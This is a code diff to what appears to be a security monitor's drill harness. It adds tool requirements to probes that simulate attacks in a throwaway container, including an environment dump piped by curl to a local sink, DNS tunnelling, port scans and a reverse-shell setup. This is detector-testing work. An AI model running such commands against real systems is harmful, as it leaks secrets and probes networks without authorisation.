@@ -69,7 +69,7 @@ class Probe:
     """One detector's probe. `command` runs with `bash -c` in the drill container as the code
     user; `setup` (optional, same way, not timed) prepares what it needs and must raise
     nothing itself. It counts as detected when a threat with one of `rules` at `min_level` or
-    above arrives within `timeout` seconds."""
+    above arrives within `timeout` seconds. A probe whose `tools` the image lacks is skipped."""
 
     detector: str
     name: str
@@ -78,6 +78,7 @@ class Probe:
     min_level: str
     timeout: float = 10.0
     setup: str = ""
+    tools: tuple[str, ...] = ()  # programs it needs beyond bash and coreutils
 
     def placeholders(self) -> set[str]:
         names: set[str] = set()
@@ -138,6 +139,7 @@ PROBES: tuple[Probe, ...] = (
         BEHAVIOURAL,
         "critical",
         setup="mkdir -p {home}/.cache && printf '%s' {shell_script} > {home}/.cache/drill_shell.py",
+        tools=("python3",),
     ),
     Probe(
         "C2 port",
@@ -145,6 +147,7 @@ PROBES: tuple[Probe, ...] = (
         PY_CONNECT,
         frozenset({"net.c2-port"}),
         "warning",
+        tools=("python3",),
     ),
     Probe("environment dump", "env", "env > /dev/null", frozenset({"cred.env-dump"}), "warning"),
     Probe(
@@ -169,6 +172,7 @@ PROBES: tuple[Probe, ...] = (
         PY_DNS_QUERY + " {dns_name}",
         frozenset({"dns.tunnel-label"}),
         "high",
+        tools=("python3",),
     ),
     Probe(
         "DNS tunnelling (many names)",
@@ -176,6 +180,7 @@ PROBES: tuple[Probe, ...] = (
         PY_DNS_QUERY + " {dns_random_names}",
         frozenset({"dns.tunnel-volume"}),
         "high",
+        tools=("python3",),
     ),
     Probe(
         "DNS query rate",
@@ -183,6 +188,7 @@ PROBES: tuple[Probe, ...] = (
         PY_DNS_QUERY + " {dns_burst_names}",
         frozenset({"dns.rate"}),
         "warning",
+        tools=("python3",),
     ),
     Probe(
         "large read",
@@ -191,6 +197,7 @@ PROBES: tuple[Probe, ...] = (
         frozenset({"fs.large-read-local", "fs.large-read"}),
         "info",
         setup="head -c {read_mb}M /dev/zero > {home}/drill-read.bin",
+        tools=("python3",),
     ),
     Probe(
         "port scan",
@@ -201,6 +208,7 @@ PROBES: tuple[Probe, ...] = (
         "    s.close()' {gateway} {scan_ports}",
         frozenset({"net.port-scan"}),
         "high",
+        tools=("python3",),
     ),
     Probe(
         "upload volume",
@@ -211,6 +219,7 @@ PROBES: tuple[Probe, ...] = (
         "time.sleep(30)' {gateway} {sink_port} {upload_mb}",
         frozenset({"net.exfil-volume"}),
         "high",
+        tools=("python3",),
     ),
     Probe(
         "secrets to the network",
@@ -218,6 +227,7 @@ PROBES: tuple[Probe, ...] = (
         "env | curl -sS --max-time 5 --data-binary @- http://{gateway}:{sink_port}/drill",
         frozenset({"exfil.secrets-to-network"}),
         "high",
+        tools=("curl",),
     ),
     Probe(
         "decoded payload to a shell",
@@ -247,6 +257,7 @@ PROBES: tuple[Probe, ...] = (
         SLEEPERS.replace("{count}", "{spawn_count}"),
         frozenset({"proc.spawn-storm"}),
         "high",
+        tools=("python3",),
     ),
     Probe(
         "process count",
@@ -254,6 +265,7 @@ PROBES: tuple[Probe, ...] = (
         SLEEPERS.replace("{count}", "{process_count}"),
         frozenset({"proc.count"}),
         "high",
+        tools=("python3",),
     ),
 )
 
@@ -596,6 +608,7 @@ class Drill:
         self.probes = tuple(probes)
         self.name = drill_name(settings.container_prefix)
         self.code_home = f"/home/{settings.code_user}"
+        self.missing: set[str] = set()  # probe tools the image lacks
 
     def run(self) -> DrillReport:
         from coi_tui.monitor import control
@@ -639,6 +652,7 @@ class Drill:
                 for name in ("shell_port", "sink_port", "c2_port", "scan_ports"):
                     reasons[name] = reasons["gateway"]
             with self.container(events, needs_address=bool(gateway)):
+                self.missing = self.missing_tools()
                 for probe in self.probes:
                     result = self.run_probe(probe, values, reasons, events, listeners)
                     report.results.append(result)
@@ -722,6 +736,21 @@ class Drill:
             with contextlib.suppress(Exception):
                 self.incus.delete_instance(self.name, force=True)
 
+    def missing_tools(self) -> set[str]:
+        """The probes' tools (names from PROBES, never from the container) the image lacks."""
+        wanted = sorted({tool for probe in self.probes for tool in probe.tools})
+        if not wanted:
+            return set()
+        script = 'for t in "$@"; do command -v "$t" > /dev/null || echo "$t"; done'
+        done = self.incus.exec_capture(
+            self.name,
+            ["sh", "-c", script, "sh", *wanted],
+            user=self.settings.code_uid,
+            env=self.exec_env(),
+            timeout=30,
+        )
+        return set(done.stdout.split()) & set(wanted)
+
     def wait_for_address(self) -> None:
         deadline = time.monotonic() + ADDRESS_TIMEOUT_SEC
         while not self.incus.get_instance(self.name, with_state=True).ipv4:
@@ -750,6 +779,9 @@ class Drill:
     ) -> ProbeResult:
         result = ProbeResult(probe.detector, probe.name, SKIPPED)
         result.note = skip_reason(probe, values, reasons)
+        absent = [tool for tool in probe.tools if tool in self.missing]
+        if absent and not result.note:
+            result.note = f"{', '.join(absent)} not in the image"
         if result.note:
             return result
         try:
